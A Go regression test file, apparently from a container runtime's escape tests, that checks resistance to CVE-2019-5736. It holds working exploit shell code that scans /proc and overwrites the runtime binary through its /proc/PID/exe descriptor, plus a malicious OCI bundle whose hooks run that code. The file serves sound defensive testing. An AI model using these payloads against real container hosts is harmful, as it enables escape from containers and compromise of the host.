package escape

import (
	"crypto/sha256"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/runtime-spec/specs-go"
)

// ownCopy makes the rig use a copy of the runtime: an attack that succeeds
// overwrites that and not the build.
func (r *rig) ownCopy() (changed func() bool) {
	r.t.Helper()
	b, err := os.ReadFile(r.oci)
	r.must(err)
	r.oci = filepath.Join(r.dir, "runtime")
	r.must(os.WriteFile(r.oci, b, 0o755))
	want := sha256.Sum256(b)
	return func() bool {
		b, err := os.ReadFile(r.oci)
		return err != nil || sha256.Sum256(b) != want
	}
}

// hunter waits for a process of the container that runs a foreign file, keeps that
// file open, lets the process go by reading the fifo that it logs to, and writes to the file when nobody
// runs it any more. It tells what it did in /tmp/verdict.
const hunter = `
hunt() {
	while :; do
		for p in /proc/[0-9]*; do
			t=$(readlink $p/exe) || continue
			[ "$t" = /bin/box ] || { found $p; return; }
		done
	done
}
found() {
	exec 9<$1/exe
	echo opened >>/tmp/verdict
	( : </tmp/fifo ) &
	n=0
	while [ $n -lt 40 ]; do
		( echo overwritten >/proc/self/fd/9 ) 2>>/tmp/errors && { echo wrote >>/tmp/verdict; return; }
		n=$((n+1))
		sleep 0.05
	done
	echo gave up >>/tmp/verdict
}
`

// TestOverwriteByExec is CVE-2019-5736: an exec of /proc/self/exe makes the runtime a process of the container.
func TestOverwriteByExec(t *testing.T) {
	r := newRig(t)
	changed := r.ownCopy()
	r.must(mkfifo(filepath.Join(r.rootfs, "tmp/fifo")))
	r.shell(hunter + "hunt; sleep 1000")
	id := r.start()
	// The log is a fifo: the process lives until the hunter has it.
	got := r.exec(id, "/proc/self/exe", "--log", "/tmp/fifo", "no-such-verb")
	verdict := r.verdict()
	if changed() {
		t.Errorf("the runtime was overwritten: %s", verdict)
	}
	if strings.Contains(verdict, "wrote") {
		t.Errorf("the runtime could be written to: %s", verdict)
	}
	t.Logf("exec: status %d, %s; hunter: %q", got.code, got.err, verdict)
}

// verdict waits until the hunter has said its last word. It speaks first before it
// lets its prey go: where it has said nothing by now it found nothing.
func (r *rig) verdict() string {
	r.t.Helper()
	path := filepath.Join(r.rootfs, "tmp/verdict")
	for deadline := time.Now().Add(patience); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		b, _ := os.ReadFile(path)
		if text := string(b); text == "" || strings.Contains(text, "wrote") || strings.Contains(text, "gave up") {
			return text
		}
	}
	r.t.Fatal("the hunter does not end")
	return ""
}

// TestOverwriteByRun is the same with one container alone: its entry point is the
// runtime, which runs a second bundle of the image, whose hook is the hunter. It shares the
// host's processes: in a pid namespace of its own the hunter would end with its prey.
func TestOverwriteByRun(t *testing.T) {
	r := newRig(t)
	changed := r.ownCopy()
	r.file("hunt.sh", "#!/bin/sh\n"+hunter+"found /proc/$PPID >/dev/null 2>&1 &\nn=0; until [ -e /tmp/verdict ] || [ $n = 20 ]; do n=$((n+1)); sleep 0.01; done\n", 0o755)
	r.file("evil/config.json", `{"ociVersion":"1.0.2","root":{"path":"r"},"process":{"cwd":"/","args":["/hunt.sh"],"user":{"uid":0,"gid":0}},
		"linux":{"namespaces":[{"type":"mount"}]},"hooks":{"prestart":[{"path":"/hunt.sh"}],"createRuntime":[{"path":"/hunt.sh"}]}}`, 0o644)
	r.must(os.MkdirAll(filepath.Join(r.rootfs, "evil/r"), 0o755))
	r.addMount("/sys/fs/cgroup", "cgroup", "cgroup", "rw")
	r.without(specs.PIDNamespace)
	caps := append(r.spec.Process.Capabilities.Bounding, "CAP_SYS_ADMIN", "CAP_SYS_PTRACE")
	r.spec.Process.Capabilities = &specs.LinuxCapabilities{Bounding: caps, Effective: caps, Permitted: caps}
	r.spec.Process.Args = []string{"/proc/self/exe", "--root", "/tmp/s", "run", "--bundle", "/evil", "x"}
	got := r.run()
	// The hunter may end with its container's cgroup: what it had said by then counts.
	said, _ := os.ReadFile(filepath.Join(r.rootfs, "tmp/verdict"))
	verdict := string(said)
	if changed() || strings.Contains(verdict, "wrote") {
		t.Errorf("the runtime was overwritten: %q", verdict)
	}
	t.Logf("status %d, %s; hunter: %q", got.code, got.err, verdict)
}

// TestScriptOfTheRuntime: a script's interpreter is /proc/self/exe, for run and for exec.
func TestScriptOfTheRuntime(t *testing.T) {
	r := newRig(t)
	changed := r.ownCopy()
	r.file("entry", "#!/proc/self/exe\n", 0o755)
	r.shell(`while :; do for p in /proc/[0-9]*/exe; do ( echo overwritten >$p ) 2>/dev/null && [ $(readlink $p) != /bin/box ] && echo wrote >>/tmp/verdict; done; done`)
	r.must(os.Chmod(filepath.Join(r.rootfs, "bin/box"), 0o555))
	id := r.start()
	for range 20 {
		if got := r.exec(id, "/entry"); got.code == 0 {
			t.Errorf("the script succeeded: %s", got.all())
		}
	}
	r.spec.Process.Args = []string{"/entry"}
	r.run()
	if b, _ := os.ReadFile(filepath.Join(r.rootfs, "tmp/verdict")); changed() || len(b) > 0 {
		t.Errorf("the runtime was overwritten: %s", b)
	}
}
